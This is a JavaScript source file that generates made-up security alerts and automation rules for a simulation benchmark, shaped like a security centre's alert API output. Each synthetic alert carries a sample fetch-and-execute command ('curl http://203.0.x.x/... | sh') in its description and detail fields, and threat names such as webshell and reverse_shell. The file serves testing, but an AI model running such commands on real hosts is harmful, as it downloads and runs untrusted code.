// Made-up alerts and rules for the bench of simulations: about 1 KB of JSON an alert, as DescribeAlerts shows them.

/** Numbers that look random and are the same every time (mulberry32). */
function randomOf(seed) {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let bits = Math.imul(state ^ (state >>> 15), 1 | state);
    bits = (bits + Math.imul(bits ^ (bits >>> 7), 61 | bits)) ^ bits;
    return ((bits ^ (bits >>> 14)) >>> 0) / 2 ** 32;
  };
}

const THREATS = [
  "webshell",
  "miner",
  "backdoor",
  "bruteforce",
  "rootkit",
  "ransom",
  "tunnel",
  "reverse_shell",
  "phishing",
  "exploit",
];
const PLACES = ["online", "file", "process", "login", "network", "container", "cron", "kernel", "memory", "registry"];
const LEVELS = ["serious", "suspicious", "remind", "remind", "remind"];
const NAMES = THREATS.flatMap((threat) =>
  PLACES.flatMap((place) => [1, 2, 3, 4, 5].map((n) => `${threat}_${place}_${n}`)),
);
const pick = (next, list) => list[Math.floor(next() * list.length)];
const hex = (next, length) => Array.from({ length }, () => Math.floor(next() * 16).toString(16)).join("");

/** The alert of a number, as one line of a history. */
export function alertLine(number) {
  return JSON.stringify({ kind: "alert", entry: alertOf(number) });
}

function alertOf(number) {
  const next = randomOf(number);
  const name = pick(next, NAMES);
  const host = Math.floor(next() ** 2 * 2_000);
  const ip = `10.${host >> 8}.${host & 255}.7`;
  const attacker = `203.0.${Math.floor(next() * 256)}.${Math.floor(next() * 256)}`;
  const uuid = hex(next, 16);
  const hour = String(number % 24).padStart(2, "0");
  const time = `2026-11-${String(1 + (number % 28)).padStart(2, "0")} ${hour}:00:00`;
  const command = `/bin/sh -c curl http://${attacker}/${hex(next, 6)} | sh ; token${Math.floor(next() * 20_000)}`;
  return {
    Id: `9007199${uuid}`,
    AlertUuid: `sas_${uuid}`,
    AlertName: name,
    AlertTitle: `Abnormal process behaviour: ${name}`,
    AlertDesc: `The process started ${command} on web-${host}, which was found by the behaviour model. Check the process and its parent.`,
    AlertLevel: pick(next, LEVELS),
    AlertType: "Abnormal process behaviour",
    AlertTypeCode: `type_${Math.floor(next() * 40)}`,
    AlertStatus: "0",
    AlertSrcProd: "sas",
    AlertSrcProdModule: pick(next, ["ips", "edr", "waf"]),
    AttCk: `T${1_000 + Math.floor(next() * 200)}`,
    IsDefend: next() < 0.2 ? "1" : "0",
    EntityList: JSON.stringify([
      { entity_type: "host", entity_uuid: `host-${host}`, host_name: `web-${host}` },
      { entity_type: "ip", entity_uuid: `ip-${attacker}`, ip: attacker },
    ]),
    AssetList: JSON.stringify([{ asset_type: "host", asset_id: `i-${host}`, asset_name: `web-${host}`, ip }]),
    AlertDetail: JSON.stringify({ host_name: `web-${host}`, src_ip: attacker, cmdline: command }),
    OccurTime: time,
    GmtCreate: time,
    LogUuid: hex(next, 16),
  };
}

/** So many rules on few fields, as written with `conditions`. */
export function rulesOf(count) {
  return Array.from({ length: count }, (_, number) => {
    const next = randomOf(number + 7_000_000);
    const level = { equals: pick(next, LEVELS) };
    const shapes = [
      {
        alert_name: { containsString: `${pick(next, THREATS)}_${pick(next, PLACES)}_${1 + Math.floor(next() * 5)}` },
        alert_level: level,
      },
      {
        alert_desc: { containsString: `token${Math.floor(next() * 20_000)} ` },
        alert_level: { in: ["serious", "suspicious"] },
      },
      {
        alert_name: { equals: pick(next, NAMES) },
        alert_desc: { containsString: `203.0.${Math.floor(next() * 256)}.` },
      },
      {
        att_ck: { in: [`T${1_000 + Math.floor(next() * 200)}`, `T${1_000 + Math.floor(next() * 200)}`] },
        is_defend: { equals: "0" },
        alert_level: level,
      },
      {
        alert_type_code: { equals: `type_${Math.floor(next() * 40)}` },
        alert_src_prod_module: { "<>": "waf" },
        alert_desc: { containsString: `web-${Math.floor(next() * 2_000)},` },
      },
    ];
    return {
      ruleName: `rule-${number}`,
      autoResponseType: "alert",
      conditions: shapes[number % shapes.length],
      actions: [
        { actionType: "doPlaybook", playbookName: "WafBlockIP", playbookUuid: "bdad6220-6584-41b2-9704-fc6584568758" },
      ],
    };
  });
}
